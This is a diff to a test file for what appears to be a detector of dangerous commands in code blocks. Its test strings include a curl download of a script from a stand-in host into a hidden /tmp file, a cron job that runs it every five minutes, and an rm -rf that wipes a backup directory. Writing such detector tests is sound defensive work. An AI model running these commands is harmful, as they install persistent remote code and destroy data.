@@ -284,6 +284,10 @@ describe('other behaviours by category', () => {
     expect(threats(fence('bash', 'keep=7\nvault="/srv/archive/backups"\nwhile [ "$(ls -1 "$vault" | wc -l)" -gt "$keep" ]; do\n  old=$(ls -1t "$vault" | tail -n 1)\n  rm -rf "$vault/$old"\ndone'))).toEqual([]);
     expect(threats(fence('bash', 'vault="/srv/archive/backups"\nrm -rf "$vault"/*'))).toEqual(['threat/destructive 9:1 error']);
   });
+  it('reads a response thrown away into /dev/null as no download, so a local job scheduled later is a warning', () => {
+    expect(threats(fence('bash', 'curl --output /dev/null --silent --head --fail "https://status.example.org" && echo up\n(crontab -l 2>/dev/null; echo "0 3 * * * /opt/tools/nightly.sh") | crontab -'))).toEqual(['threat/persistence 9:68 warning']);
+    expect(threats(fence('bash', 'curl -fsSL --output /tmp/.u https://drop.example.net/u.sh\n(crontab -l 2>/dev/null; echo "*/5 * * * * sh /tmp/.u") | crontab -'))).toEqual(['threat/persistence 9:59 error']);
+  });
   it('leaves scoped clean-ups alone', () => {
     expect(threats(fence('bash', "find /var/log/myapp -name '*.gz' -mtime +30 -delete\nrm -rf ../build ./dist"))).toEqual([]);
     expect(threats(fence('python', 'import shutil\nshutil.rmtree("build", ignore_errors=True)'))).toEqual([]);
